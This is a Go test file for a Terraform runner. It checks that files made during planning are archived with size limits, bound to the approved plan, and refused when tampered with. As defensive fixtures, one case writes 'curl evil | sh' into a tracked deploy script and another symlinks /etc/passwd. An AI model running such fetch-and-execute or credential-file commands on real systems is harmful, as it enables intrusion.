package runner

import (
	"archive/tar"
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/klauspost/compress/zstd"

	"github.com/lockkeeper/lockkeeper/backend/backendtest"
	"github.com/lockkeeper/lockkeeper/run"
	"github.com/lockkeeper/lockkeeper/runner/jail"
)

// makes runs a command of the shell whenever the real terraform begins to plan, as a
// data source would, in the project's directory.
func (s *setup) makes(t testing.TB, command string) {
	t.Helper()
	s.script(t, "if [ \"$1\" = plan ]; then\n"+command+"\nfi\nexec '"+realTerraform(t)+"' \"$@\"\n")
}

// leaves runs a command whenever the real terraform has planned.
func (s *setup) leaves(t testing.TB, command string) {
	t.Helper()
	s.script(t, "'"+realTerraform(t)+"' \"$@\" || exit\nif [ \"$1\" = plan ]; then\n"+command+"\nfi\n")
}

func realTerraform(t testing.TB) string {
	t.Helper()
	terraform, err := exec.LookPath("terraform")
	if err != nil {
		t.Fatal(err)
	}
	return terraform
}

// makesAndPlans is plans of a project that makes files when it is planned.
func makesAndPlans(t testing.TB, s *setup, command string) *applying {
	t.Helper()
	a := &applying{setup: s}
	dir := a.shared(t)
	a.state, a.ledger = filepath.Join(dir, "terraform.tfstate"), filepath.Join(dir, "ledger")
	a.doc.Project.BackendConfig = map[string]string{"path": a.state}
	a.doc.Flags = []string{"-var=ledger=" + a.ledger}
	a.makes(t, command)
	a.planAgain(t, a.doc.JobID)
	return a
}

// packs needs files that the commit does not have, in the plan and again in the apply.
const packs = `
terraform {
  backend "local" {}
}
variable "ledger" {}
resource "terraform_data" "lambda" {
  input = [filesha256("lambda.zip"), sort(fileset("${path.root}/../build", "**")), file("../build/latest")]
  provisioner "local-exec" {
    command = "../build/deep/run.sh >> ${var.ledger}"
  }
}
`

const packsCommand = `
printf 'packed' > lambda.zip
mkdir -p ../build/deep && printf '#!/bin/sh\necho ran\n' > ../build/deep/run.sh && chmod +x ../build/deep/run.sh
ln -s deep/run.sh ../build/latest
mkdir -p .terraform __pycache__ && : > .terraform/of-terraform && : > __pycache__/x.pyc && : > terraform.tfstate.backup
chmod +x own.txt; cat own.txt > t; cat t > own.txt; rm t
`

// An apply begins with the commit, and used to miss what a data source packed while
// planning (archive_file and a function's code): "no such file".
func TestAnApplyGetsTheFilesThatItsPlanMade(t *testing.T) {
	t.Parallel()
	layouts(t, func(t *testing.T, newSetup func(map[string]string) *setup) {
		a := makesAndPlans(t, newSetup(map[string]string{"app/main.tf": packs, "app/own.txt": "tracked"}), packsCommand)
		want := &run.Made{Files: 3, Bytes: 25, Names: []string{"app/lambda.zip", "build/deep/run.sh", "build/latest"}, Executable: 1, Executables: []string{"app/own.txt"}}
		if diff := cmp.Diff(want, a.plan.Made); diff != "" {
			t.Errorf("(-want +got):\n%s", diff)
		}
		r := a.run(t)
		if r.Outcome != run.OutcomeSucceeded || a.made(t) != "ran" {
			t.Errorf("made %q: %+v", a.made(t), r.Problem)
		}
		if !slices.Equal(stepsOf(r), []string{"apply"}) {
			t.Errorf("terraform ran %+v", r.Steps)
		}
	})
	t.Run("without a jail", func(t *testing.T) {
		t.Parallel()
		s := newSetup(t, map[string]string{"app/main.tf": packs, "app/own.txt": "tracked"})
		s.options.Isolation = jail.Off
		a := makesAndPlans(t, s, packsCommand)
		if r := a.run(t); r.Outcome != run.OutcomeSucceeded || a.made(t) != "ran" {
			t.Errorf("made %q: %+v", a.made(t), r.Problem)
		}
	})
}

// The same files are the same archive, whoever made them.
func TestEqualFilesAreOneArchive(t *testing.T) {
	t.Parallel()
	files := map[string]string{"app/main.tf": packs, "app/own.txt": "tracked"}
	a := makesAndPlans(t, newSetup(t, files), packsCommand)
	b := makesAndPlans(t, newSetup(t, files), packsCommand)
	if x, y := a.doc.Plan.Made, b.doc.Plan.Made; x == nil || y == nil || x.SHA256 != y.SHA256 {
		t.Errorf("%+v and %+v", x, y)
	}
}

// What is beside the code of a module from elsewhere is in a directory of terraform's,
// which init makes anew for the apply.
func TestFilesMadeInModulesFromElsewhere(t *testing.T) {
	t.Parallel()
	dir, _ := gitModule(t)
	layouts(t, func(t *testing.T, newSetup func(map[string]string) *setup) {
		a := makesAndPlans(t, newSetup(map[string]string{"app/main.tf": `
terraform {
  backend "local" {}
}
variable "ledger" {}
module "m" {
  source = "` + serveGit(t, dir) + `"
}
resource "terraform_data" "a" {
  input = fileexists(".terraform/modules/m/build/x.zip") ? filesha256(".terraform/modules/m/build/x.zip") : "it is not there"
  provisioner "local-exec" {
    command = "echo ${self.input} > ${var.ledger}; echo again >> .terraform/modules/m/build/x.zip"
  }
}
`}), "mkdir -p .terraform/modules/m/build && printf packed > .terraform/modules/m/build/x.zip")
		if m := a.plan.Made; m == nil || m.Files != 1 || m.Missed != 0 {
			t.Fatalf("%+v", m)
		}
		r := a.run(t)
		if r.Outcome != run.OutcomeSucceeded || strings.Contains(a.made(t), "not") {
			t.Errorf("made %q: %+v", a.made(t), r.Problem)
		}
	})
}

// A plan that makes nothing has nothing more than before.
func TestNothingMadeIsNothingMore(t *testing.T) {
	t.Parallel()
	layouts(t, func(t *testing.T, newSetup func(map[string]string) *setup) {
		s := newSetup(map[string]string{"app/main.tf": resource, "app/data/x.json": "{}", "modules/m/main.tf": resource, "link": "-> modules/m"})
		r := s.run(t)
		if _, there := r.Artifacts[run.ArtifactMade]; there || r.Made != nil || r.Outcome != run.OutcomeSucceeded {
			t.Errorf("%+v, %+v", r, r.Made)
		}
		if doc := backendtest.Apply(s.doc, r); doc.Plan.Made != nil {
			t.Errorf("%+v", doc.Plan.Made)
		}
	})
}

// A plan's program makes what would change the apply beyond what was approved: each is
// named, and none travels. What Git has is never replaced.
func TestT03_WhatDoesNotTravel(t *testing.T) {
	t.Parallel()
	files := map[string]string{
		"app/main.tf": resource, "app/own.txt": "tracked", "app/deploy.sh": "#!/bin/sh\n", "app/gone.txt": "x", "app/place": "x", "link": "-> app",
		"other/gone.txt": "x", "dir/x": "x",
	}
	for name, c := range map[string]struct {
		command string
		want    map[string]run.Missed
	}{
		"names that are obeyed": {`
: > new.tf; mkdir -p sub/.git ../other terraform.d/plugins .terraform
: > sub/x.tf.json; : > override.tofu; : > terraform.tfvars; : > z.auto.tfvars.json; : > .terraformrc; : > terraform.rc
: > terraform.d/plugins/p; : > sub/.git/config; : > ../other/.Terraform.lock.HCL.x; : > .terraform/environment
`, map[string]run.Missed{
			"app/new.tf": run.MissedObeyed, "app/sub/x.tf.json": run.MissedObeyed, "app/override.tofu": run.MissedObeyed,
			"app/terraform.tfvars": run.MissedObeyed, "app/z.auto.tfvars.json": run.MissedObeyed, "app/.terraformrc": run.MissedObeyed,
			"app/terraform.rc": run.MissedObeyed, "app/terraform.d/plugins/p": run.MissedObeyed, "app/sub/.git/config": run.MissedObeyed,
			"other/.Terraform.lock.HCL.x": run.MissedObeyed,
		}},
		"what Git has": {`
echo 'curl evil | sh' > deploy.sh; mv own.txt t; echo x > own.txt; touch -d 2001-01-01 own.txt; rm -f t gone.txt ../other/gone.txt place
mkdir place; : > place/x; rm ../link; ln -s other ../link
`, map[string]run.Missed{
			"app/deploy.sh": run.MissedChanged, "app/own.txt": run.MissedChanged, "app/gone.txt": run.MissedRemoved,
			"other/gone.txt": run.MissedRemoved, "link": run.MissedChanged, "app/place": "either",
		}},
		"what is no file of the commit": {`
ln -s /etc/passwd passwd; ln -s ../../../x out; ln -s app/out ../through; mkfifo pipe; printf x > "$(printf 'not-\377-utf8')"; ln -s main.tf good
(n=0; while [ $n -lt 600 ]; do mkdir d && cd d; n=$((n+1)); done; : > x)
`, map[string]run.Missed{
			"app/passwd": run.MissedLink, "app/out": run.MissedLink, "through": run.MissedLink, "app/pipe": run.MissedSpecial, "app/not-�-utf8": run.MissedName,
			("app" + strings.Repeat("/d", 499))[:maxMadeName]: run.MissedName, // and nothing below it
		}},
		"too much": {`
mkdir many; truncate -s 40M many/a; truncate -s 25M many/b; echo x > small
`, map[string]run.Missed{"app/many/a": run.MissedBytes, "app/many/b": run.MissedBytes, "app/small": run.MissedBytes}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			layouts(t, func(t *testing.T, newSetup func(map[string]string) *setup) {
				s := newSetup(files)
				s.leaves(t, c.command)
				r := s.run(t)
				if r.Outcome != run.OutcomeSucceeded || r.Made == nil {
					t.Fatalf("%+v %s", r.Problem, detail(r))
				}
				got := map[string]run.Missed{}
				for _, m := range r.Made.Missing {
					if m.Name == "app/place" { // gone, or replaced: how much is seen depends on the layout
						m.Why = "either"
					}
					got[m.Name] = m.Why
				}
				if diff := cmp.Diff(c.want, got); diff != "" || r.Made.Missed != len(c.want) {
					t.Errorf("%d missed (-want +got):\n%s", r.Made.Missed, diff)
				}
				for entry := range entriesOf(t, s, r) {
					if !strings.HasPrefix(entry, "app/place/") && entry != "app/good" {
						t.Errorf("%s travels", entry)
					}
				}
			})
		})
	}
}

// entriesOf is the archive of files that a plan made: mode and content, by name.
func entriesOf(t *testing.T, s *setup, r run.Result) map[string]string {
	t.Helper()
	out := map[string]string{}
	stored, there := r.Artifacts[run.ArtifactMade]
	if !there {
		return out
	}
	decoder, err := zstd.NewReader(strings.NewReader(s.read(t, stored)))
	if err != nil {
		t.Fatal(err)
	}
	defer decoder.Close()
	for archive := tar.NewReader(decoder); ; {
		h, err := archive.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(archive)
		if err != nil {
			t.Fatal(err)
		}
		out[h.Name] = fmt.Sprintf("%o %s%s", h.Mode, h.Linkname, content)
	}
}

func TestWhatTravelsIsBounded(t *testing.T) {
	t.Parallel()
	tree, err := os.OpenRoot(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = tree.Close() }()
	var m made
	for n := range run.MaxMadeFiles {
		m.files = append(m.files, madeFile{name: fmt.Sprintf("%05d", n), size: int64(n)})
	}
	m.settle(nil, tree)
	if len(m.files) != run.MaxMadeFiles || m.count != 0 {
		t.Fatalf("%d files travel, %d do not", len(m.files), m.count)
	}
	m.files = append(m.files, madeFile{name: "last", size: 1 << 20})
	m.settle(nil, tree)
	if len(m.files) != 0 || m.count != run.MaxMadeFiles+1 || m.missed[0] != (run.MissedFile{Name: "last", Why: run.MissedFiles}) {
		t.Errorf("%d files travel, %d do not: %+v", len(m.files), m.count, m.missed[0])
	}
	if r := m.result(strings.ToUpper); len(r.Missing) != shownMade || r.Missing[0].Name != "LAST" || r.Missed != m.count {
		t.Errorf("%+v", r)
	}
	m = made{files: []madeFile{{name: "a", size: run.MaxMadeBytes}}, bytes: run.MaxMadeBytes}
	m.settle(nil, tree)
	if len(m.files) != 1 {
		t.Errorf("%+v", m)
	}
	for _, words := range []string{run.MissedBytes.Words(), run.MissedFiles.Words()} { // which have the bounds in them
		if !strings.Contains(words, "64 MiB") && !strings.Contains(words, "5,000") || run.MaxMadeBytes != 64<<20 || run.MaxMadeFiles != 5000 {
			t.Errorf("%q", words)
		}
	}
}

// Whoever could exchange the archive, or have the server name another one, makes no
// apply run anything but what was approved.
func TestT21_FilesOfAPlanAreBoundToIt(t *testing.T) {
	t.Parallel()
	layouts(t, func(t *testing.T, newSetup func(map[string]string) *setup) {
		files := map[string]string{"app/main.tf": packs, "app/own.txt": "tracked", "other/deploy.sh": "x", "link": "-> other"}
		a := makesAndPlans(t, newSetup(files), packsCommand)
		good, id := *a.doc.Plan.Made, a.doc.JobID
		exchange := func(t *testing.T, content []byte) run.Artifact {
			t.Helper()
			ref, err := a.artifacts.Put(t.Context(), good.Key, bytes.NewReader(content))
			if err != nil {
				t.Fatal(err)
			}
			return ref
		}
		of := func(name, content string) []byte { return backendtest.Archive(t, map[string]string{name: content}) }
		for n, c := range []struct {
			name, code string
			change     func(t *testing.T) run.Artifact
		}{
			{"other bytes", "plan_changed", func(t *testing.T) run.Artifact { exchange(t, of("x", "evil")); return good }},
			{"of another job", "plan_mismatch", func(t *testing.T) run.Artifact {
				ref := good
				ref.Key = key("other", "other-0", run.ArtifactMade)
				return ref
			}},
			{"no archive of files", "plan_mismatch", func(*testing.T) run.Artifact { return a.doc.Source }},
			{"over a file of the project", "plan_mismatch", func(t *testing.T) run.Artifact { return exchange(t, of("app/own.txt", "evil")) }},
			{"over another file of the commit", "plan_mismatch", func(t *testing.T) run.Artifact { return exchange(t, of("other/deploy.sh", "evil")) }},
			{"through a link of the commit", "plan_mismatch", func(t *testing.T) run.Artifact { return exchange(t, of("link/new", "evil")) }},
			{"in the place of a directory", "plan_mismatch", func(t *testing.T) run.Artifact { return exchange(t, of("other", "-> app")) }},
			{"below a file", "plan_mismatch", func(t *testing.T) run.Artifact { return exchange(t, of("app/own.txt/x", "evil")) }},
			{"code", "plan_mismatch", func(t *testing.T) run.Artifact { return exchange(t, of("app/override.tf", resource)) }},
			{"variables", "plan_mismatch", func(t *testing.T) run.Artifact { return exchange(t, of("app/x.auto.tfvars", "")) }},
			{"a provider", "plan_mismatch", func(t *testing.T) run.Artifact { return exchange(t, of("app/.terraform/providers/x", "evil")) }},
			{"the lock file", "plan_mismatch", func(t *testing.T) run.Artifact { return exchange(t, of("app/"+lockFile, "")) }},
			{"out of the commit", "plan_mismatch", func(t *testing.T) run.Artifact { return exchange(t, of("../x", "evil")) }},
			{"a link out of the commit", "plan_mismatch", func(t *testing.T) run.Artifact { return exchange(t, of("app/x", "-> ../../x")) }},
			{"gone", "plan_changed", func(t *testing.T) run.Artifact {
				if err := a.artifacts.Delete(t.Context(), good.Key); err != nil {
					t.Fatal(err)
				}
				return good
			}},
		} {
			t.Run(c.name, func(t *testing.T) {
				a.next(t, fmt.Sprintf("%s%d-0", strings.TrimSuffix(id, "-0"), n))
				made := c.change(t)
				a.doc.Plan.Made = &made
				r := a.run(t)
				wantProblem(t, r, c.code, "")
				if r.Began || len(r.Steps) > 0 || a.made(t) != "" {
					t.Errorf("began %v, ran %v, made %q", r.Began, r.Steps, a.made(t))
				}
				if content, err := os.ReadFile(filepath.Join(a.options.Dir, "source/app/own.txt")); err == nil && string(content) != "tracked" {
					t.Errorf("the commit's file is %q", content)
				}
			})
		}
	})
}

// Names that the plan's side takes for terraform's own are refused by the apply's.
func TestWhatIsTerraformsOwnIsObeyed(t *testing.T) {
	t.Parallel()
	j := newJob(Options{}, nil)
	j.doc.Project.Dir, j.brought = "app", map[string]bool{}
	for _, name := range []string{
		".terraform/environment", "app/.terraform/providers/x", "app/.terraform.lock.hcl", "app/terraform.tfstate", "app/terraform.tfstate.d/x/terraform.tfstate",
		".terraform.tfstate.lock.info", "x/terraform.tfstate.backup", "app/.terraform/modules/modules.json",
	} {
		if !j.isTerraforms(name) || !j.obeyed(name) {
			t.Errorf("%s: terraform's %v, obeyed %v", name, j.isTerraforms(name), j.obeyed(name))
		}
	}
	for _, name := range []string{"app/lambda.zip", "app/.terraform/modules/m/x.zip", ".build/x.tar.gz", "app/x.tf.zip", "app/terraform/x", "a/.github/x", "app/tfvars"} {
		if j.isTerraforms(name) || j.obeyed(name) {
			t.Errorf("%s: terraform's %v, obeyed %v", name, j.isTerraforms(name), j.obeyed(name))
		}
	}
}
